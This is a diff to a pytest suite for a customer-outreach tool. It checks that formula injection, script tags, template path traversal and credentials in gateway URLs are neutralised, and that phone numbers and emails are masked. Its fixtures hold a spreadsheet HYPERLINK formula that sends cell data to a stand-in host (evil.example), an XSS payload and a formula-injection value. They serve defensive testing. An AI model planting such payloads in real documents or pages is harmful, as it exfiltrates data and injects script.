@@ -11,6 +11,7 @@ from pathlib import Path
 
 import pytest
 from jinja2 import TemplateNotFound
+from tests.inprocess import huitou
 
 FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"Click me")'
 SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>"
@@ -68,15 +69,15 @@ def shop(root: Path) -> Path:
     return root
 
 
-def run(huitou_bin: str, root: Path, *args: str) -> subprocess.CompletedProcess:
-    done = subprocess.run([huitou_bin, *args], cwd=root, capture_output=True, text=True, timeout=120)
+def run(root: Path, *args: str) -> subprocess.CompletedProcess:
+    done = huitou(*args, cwd=root)
     assert done.returncode in (0, 1), done.stderr
     return done
 
 
-def test_public_text_is_harmless_in_spreadsheets_html_and_call_lists(huitou_bin: str, tmp_path: Path) -> None:
+def test_public_text_is_harmless_in_spreadsheets_html_and_call_lists(tmp_path: Path) -> None:
     root = shop(tmp_path / "shop")
-    planned = run(huitou_bin, root, "plan", "--as-of", "2026-11-02", "--horizon", "1d", "--out", "plan.jsonl")
+    planned = run(root, "plan", "--as-of", "2026-11-02", "--horizon", "1d", "--out", "plan.jsonl")
     rows = {(r["customer_id"], r["rule_id"]): r for r in map(json.loads, (root / "plan.jsonl").read_text(encoding="utf-8").splitlines())}
     # a phone number that is not one is set aside at load, said (masked), and never a call-list row
     assert (rows[("c", "call")]["status"], rows[("c", "call")]["reason"]) == ("suppressed", "no_contact")
@@ -86,7 +87,7 @@ def test_public_text_is_harmless_in_spreadsheets_html_and_call_lists(huitou_bin:
     html, text = rows[("b", "mail")]["content"]["html"], rows[("b", "mail")]["content"]["body"]
     assert "<script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt;" in html
     assert "https://shop.example.cn/u?a=1&amp;c=b" in html and text.startswith(SCRIPT)
-    sent = run(huitou_bin, root, "send", "plan.jsonl", "--live", "--now", "2026-11-02T12:00", "--until", "2026-11-02")
+    sent = run(root, "send", "plan.jsonl", "--live", "--now", "2026-11-02T12:00", "--until", "2026-11-02")
     assert "2 sent" in sent.stdout, sent.stdout
     with open(next((root / "out" / "calls").glob("*.csv")), encoding="utf-8-sig", newline="") as handle:
         calls = {r["customer_id"]: r for r in csv.DictReader(handle)}
@@ -99,7 +100,7 @@ def test_public_text_is_harmless_in_spreadsheets_html_and_call_lists(huitou_bin:
     assert rejected["customer_id"] == "'=1+2" and rejected["reason"] == "negative_amount"
 
 
-def test_templates_read_only_files_inside_templates(huitou_bin: str, tmp_path: Path) -> None:
+def test_templates_read_only_files_inside_templates(tmp_path: Path) -> None:
     """Links out of templates/, names chosen when rendering, '..' and self-inclusion are
     validate errors, and the planner's loader does not follow them either."""
     root = shop(tmp_path / "shop")
@@ -116,7 +117,7 @@ def test_templates_read_only_files_inside_templates(huitou_bin: str, tmp_path: P
     }
     for name, text in cases.items():
         (sms / name).write_text(text, encoding="utf-8")
-    done = subprocess.run([huitou_bin, "validate", "--format", "json"], cwd=root, capture_output=True, text=True)
+    done = huitou("validate", "--format", "json", cwd=root)
     found = {(Path(d["file"]).name, d["code"]) for d in json.loads(done.stdout)}
     assert done.returncode == 1
     assert {(name, "HT406") for name in cases} <= found, sorted(found)
@@ -131,29 +132,29 @@ def test_templates_read_only_files_inside_templates(huitou_bin: str, tmp_path: P
         env.get_template("phone/leak.j2").render()
 
 
-def test_credentials_in_a_gateway_url_are_refused_and_never_shown(huitou_bin: str, tmp_path: Path) -> None:
+def test_credentials_in_a_gateway_url_are_refused_and_never_shown(tmp_path: Path) -> None:
     from huitou.delivery.channels import DeliveryError
 
     root = shop(tmp_path / "shop")
     for param in ("client_secret", "auth_token", "appkey", "access_token", "sign", "api_key"):
         config = CONFIG.replace("  phone: {outbox: out/calls}", f'  phone: {{webhook: {{url: "https://gw.example/send?{param}=s3cr3t&to=1"}}}}')
         (root / "huitou.yaml").write_text(config, encoding="utf-8")
-        done = subprocess.run([huitou_bin, "validate", "huitou.yaml", "--format", "json"], cwd=root, capture_output=True, text=True)
+        done = huitou("validate", "huitou.yaml", "--format", "json", cwd=root)
         assert done.returncode == 1 and [d["code"] for d in json.loads(done.stdout)] == ["HT504"], (param, done.stdout)
         assert "s3cr3t" not in done.stdout
     error = DeliveryError("no answer from https://gw.example/send?appkey=s3cr3t&sign=ab within 5s; body: see https://u:pw@gw.example/x?t=1", transient=True)
     assert "s3cr3t" not in str(error) and "pw@" not in str(error) and "appkey=***" in str(error)
 
 
-def test_dry_runs_mask_every_contact_a_template_prints(huitou_bin: str, tmp_path: Path) -> None:
+def test_dry_runs_mask_every_contact_a_template_prints(tmp_path: Path) -> None:
     root = shop(tmp_path / "shop")
     (root / "templates" / "zh-CN" / "phone" / "call.j2").write_text("客户：{{ customer.phone }}，邮箱 {{ customer.email }}，订单日 2026-11-01", encoding="utf-8")
-    masked = run(huitou_bin, root, "plan", "--as-of", "2026-11-02", "--horizon", "1d", "--format", "json", "--samples", "10")
+    masked = run(root, "plan", "--as-of", "2026-11-02", "--horizon", "1d", "--format", "json", "--samples", "10")
     text = json.dumps(json.loads(masked.stdout)["samples"], ensure_ascii=False)
     assert "13800000001" not in text and "a@mail.example.cn" not in text and "138****0001" in text and "a***@mail.example.cn" in text
     assert "2026-11-01" in text  # a date is not a phone number
-    shown = run(huitou_bin, root, "plan", "--as-of", "2026-11-02", "--horizon", "1d", "--format", "json", "--samples", "10", "--show-pii")
+    shown = run(root, "plan", "--as-of", "2026-11-02", "--horizon", "1d", "--format", "json", "--samples", "10", "--show-pii")
     assert "13800000001" in shown.stdout
-    run(huitou_bin, root, "plan", "--as-of", "2026-11-02", "--horizon", "1d", "--out", "plan.jsonl")
-    dry = run(huitou_bin, root, "send", "plan.jsonl", "--now", "2026-11-02T12:00", "--until", "2026-11-02")
+    run(root, "plan", "--as-of", "2026-11-02", "--horizon", "1d", "--out", "plan.jsonl")
+    dry = run(root, "send", "plan.jsonl", "--now", "2026-11-02T12:00", "--until", "2026-11-02")
     assert "13800000001" not in dry.stdout and "a@mail.example.cn" not in dry.stdout and "would send" in dry.stdout
